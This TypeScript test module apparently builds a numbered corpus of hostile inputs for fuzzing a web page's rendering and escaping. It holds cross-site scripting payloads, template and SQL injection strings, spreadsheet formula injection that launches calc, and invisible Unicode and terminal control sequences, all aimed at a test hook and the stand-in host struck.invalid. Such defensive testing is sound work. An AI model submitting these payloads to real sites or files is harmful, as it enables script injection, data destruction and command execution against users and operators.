/** What a payload does when it runs: the page under test listens for it. */
const RUN = 'window.__struck&&window.__struck()';
const FOREIGN = 'http://struck.invalid/';

const EVENTS = [
  'onload',
  'onerror',
  'onclick',
  'onfocus',
  'onmouseover',
  'ontoggle',
  'onbegin',
  'onanimationstart',
  'ontransitionend',
  'onpointerenter',
  'onwheel',
  'onbeforeinput',
  'oncopy',
  'onauxclick',
];

const ELEMENTS: readonly ((handler: string) => string)[] = [
  (handler) => `<img src=x ${handler}>`,
  (handler) => `"><img src=x ${handler}>`,
  (handler) => `'><input autofocus ${handler}>`,
  (handler) => `<svg ${handler}><animate attributeName=x dur=1s ${handler}></svg>`,
  (handler) => `<details open ${handler}>x</details>`,
  (handler) => `<video src=x ${handler}><source ${handler}></video>`,
  (handler) => `<iframe src="${FOREIGN}" ${handler}></iframe>`,
  (handler) => `<body ${handler}>`,
  (handler) => `<div style="animation:x 1s" tabindex=0 ${handler}>x</div>`,
  (handler) => `</textarea></title></style><marquee ${handler}>x</marquee>`,
];

const MARKUP: readonly string[] = [
  `<script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script src="${FOREIGN}a.js"></script>`,
  `<script type=module>import "${FOREIGN}a.js"</script>`,
  `<svg><script xlink:href="data:,${RUN}"></script></svg>`,
  `<svg><use href="${FOREIGN}a.svg#x"/></svg>`,
  `<svg><foreignObject><script>${RUN}</script></foreignObject></svg>`,
  `<svg><set attributeName=onmouseover to="${RUN}"/></svg>`,
  `<math><mtext></p><img src=x onerror="${RUN}"></mtext></math>`,
  `<a href="javascript:${RUN}">заказ</a>`,
  `<a href=" jav&#x09;ascript:${RUN}">заказ</a>`,
  `<a href="data:text/html,<script>${RUN}</script>" target=_top>заказ</a>`,
  `<form action="${FOREIGN}"><button autofocus>x</button></form>`,
  `<meta http-equiv=refresh content="0;url=${FOREIGN}">`,
  `<base href="${FOREIGN}">`,
  `<link rel=stylesheet href="${FOREIGN}a.css">`,
  `<link rel=prefetch href="${FOREIGN}">`,
  `<style>@import "${FOREIGN}a.css";*{background:url(${FOREIGN}b)}</style>`,
  `<object data="${FOREIGN}"></object>`,
  `<embed src="${FOREIGN}">`,
  `<frameset onload="${RUN}">`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<!--><img src=x onerror="${RUN}">-->`,
  `<![CDATA[<img src=x onerror="${RUN}">]]>`,
  `<xmp><img src=x onerror="${RUN}">`,
  `<img src="${FOREIGN}pixel.png">`,
  `<audio src="${FOREIGN}a.mp3" autoplay>`,
  `<portal src="${FOREIGN}">`,
  `<isindex action=javascript:${RUN} type=image>`,
  `<dialog open oncancel="${RUN}">x</dialog>`,
];

const TEMPLATES: readonly string[] = [
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `#{${RUN}}`,
  `<%= ${RUN} %>`,
  `{{t('orders.title')}} $t(orders.title) {{count}}`,
  `javascript:${RUN}`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `__proto__`,
  `constructor`,
  `%3Cscript%3E${encodeURIComponent(RUN)}%3C/script%3E`,
  `&lt;img src=x onerror=${RUN}&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `'; DROP TABLE delivery; --`,
  `" OR 1=1 --`,
  `=HYPERLINK("${FOREIGN}","заказ")`,
  `+cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
];

/** Direction marks, joiners, controls: they must neither hide what follows nor move the rest. */
const SIGNS: readonly string[] = [
  '\u202e',
  '\u202d',
  '\u2066',
  '\u2067',
  '\u2068',
  '\u2069',
  '\u200e',
  '\u200f',
  '\u061c',
  '\u200b',
  '\u200c',
  '\u200d',
  '\u2060',
  '\ufeff',
  '\u00ad',
  '\u034f',
  '\u115f',
  '\u3164',
  '\u2028',
  '\u2029',
  '\u0085',
  '\u0000',
  '\u0007',
  '\u0008',
  '\u000b',
  '\u001b[31mкрасный\u001b[0m',
  '\u001b[2J\u001b[H',
  '\u001b]0;заголовок\u0007',
  '\u001b]8;;http://struck.invalid/\u001b\\ссылка\u001b]8;;\u001b\\',
  '\u009b31m',
  '\ud800',
  '\udc00',
  '\ufffe',
  '\u{e0001}\u{e0041}',
  'и\u0306\u0306\u0306\u0306\u0306\u0306\u0306\u0306\u0306\u0306\u0306\u0306',
  '﷽﷽﷽﷽',
  '👩‍👩‍👧‍👦🏳️‍🌈',
];

/** So many payloads, each another; every one carries its number, so that a finding names it. */
export function hostileTexts(count: number): readonly string[] {
  const handlers = EVENTS.flatMap((event) => [
    `${event}="${RUN}"`,
    `${event.toUpperCase()}=${RUN}//`,
  ]);
  const elements = ELEMENTS.flatMap((element) => handlers.map(element));
  const signs = SIGNS.flatMap((sign) => [
    `до${sign}после`,
    `${sign}заказ${sign}`,
    `ул. Ленина${sign}, 5`,
    `${sign.repeat(40)}x`,
    `<b>${sign}</b><img src=x onerror="${RUN}">`,
  ]);
  const plain = [...MARKUP, ...TEMPLATES, ...elements, ...signs];
  const mixed = SIGNS.flatMap((sign) =>
    [...MARKUP, ...TEMPLATES, ...elements].map((text) => text.replace(/[=<]/, `$&${sign}`)),
  );
  return [...plain, ...mixed].slice(0, count).map((text, index) => `${text} №${index}`);
}
